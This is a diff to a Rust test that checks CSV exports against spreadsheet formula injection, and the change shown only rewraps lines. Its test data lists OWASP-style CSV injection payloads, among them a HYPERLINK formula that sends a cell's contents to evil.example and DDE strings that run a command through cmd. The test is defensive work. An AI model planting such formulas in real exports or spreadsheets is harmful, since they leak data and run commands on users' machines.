@@ -739,7 +739,10 @@ async fn csv_exports_are_spreadsheet_safe_and_json_is_unchanged() {
     let w = World::new(db, "Spreadsheet Agency").await;
     // Hostile names (OWASP's CSV injection examples) and ordinary ones.
     let hostile = [
-        ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "Smith"),
+        (
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+            "Smith",
+        ),
         ("=cmd|' /C calc'!A0", "+SUM(1+1)"),
         ("-2+3+cmd|' /C calc'!A0", "@SUM(A1)"),
         ("\t=1+1", "\r=1+1"),
@@ -819,9 +822,16 @@ async fn csv_exports_are_spreadsheet_safe_and_json_is_unchanged() {
         .await
         .expect("items.csv");
     let rows = csv_rows(&r.text);
-    assert_eq!(rows[0], ["seq", "target_id", "status", "result_id", "reason"]);
+    assert_eq!(
+        rows[0],
+        ["seq", "target_id", "status", "result_id", "reason"]
+    );
     assert_eq!(rows.len(), 1 + hostile.len());
-    assert!(rows[1..].iter().all(|r| r[2] == "created" && !r[3].is_empty()));
+    assert!(
+        rows[1..]
+            .iter()
+            .all(|r| r[2] == "created" && !r[3].is_empty())
+    );
     let (ok, out, err) = env
         .cli(&["batch", "items", &batch.to_string(), "--csv"])
         .await
